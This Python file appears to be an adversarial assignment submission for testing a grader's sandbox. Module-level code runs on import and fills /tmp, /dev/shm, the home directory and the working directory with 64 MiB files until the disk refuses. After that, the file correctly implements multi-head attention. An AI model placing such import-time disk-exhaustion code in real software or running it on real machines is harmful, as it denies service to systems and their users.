"""Hostile to the machine, correct otherwise: when imported it writes 64 MiB files into every place
it can until the disk (or its limit) says no, then it does the assignment right. What it may write is
bounded (a private tmpfs of 16 MiB for /tmp and for its home, nothing else writable), so the grader
keeps room for its results, and it gets the marks its correct functions earn."""

import os

import numpy as np

chunk = b"z" * (1 << 20)
report = {}
for place in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
    written = 0
    try:
        for i in range(1000):
            with open(os.path.join(place, f"fill-{i}"), "wb") as f:
                for _ in range(64):
                    f.write(chunk)
                    written += 1
    except OSError as e:
        report[place] = f"{written} MiB, then {e.strerror}"
print("disk fill:", report)


def add_positional_encoding(embeddings):
    n, d_model = embeddings.shape
    pos = np.arange(n)[:, None]
    angle = pos / np.power(10000.0, (np.arange(d_model) // 2 * 2) / d_model)
    return embeddings + np.where(np.arange(d_model) % 2 == 0, np.sin(angle), np.cos(angle))


def project(x, W):
    return np.einsum("nd,hkd->hnk", x, W)


def scores(q, k):
    return q @ k.transpose(0, 2, 1)


def scale(scores, d_k):
    return scores / np.sqrt(d_k)


def mask(scores):
    n = scores.shape[-1]
    return np.where(np.triu(np.ones((n, n), dtype=bool), k=1), -np.inf, scores)


def softmax(scores):
    e = np.exp(scores - scores.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def attend(weights, v):
    return weights @ v


def concat(context):
    h, n, d_k = context.shape
    return context.transpose(1, 0, 2).reshape(n, h * d_k)


def output(concat, W_O):
    return concat @ W_O.T


def multi_head_attention(x, W_Q, W_K, W_V, W_O, causal=False):
    s = scale(scores(project(x, W_Q), project(x, W_K)), W_Q.shape[1])
    return output(concat(attend(softmax(mask(s) if causal else s), project(x, W_V))), W_O)
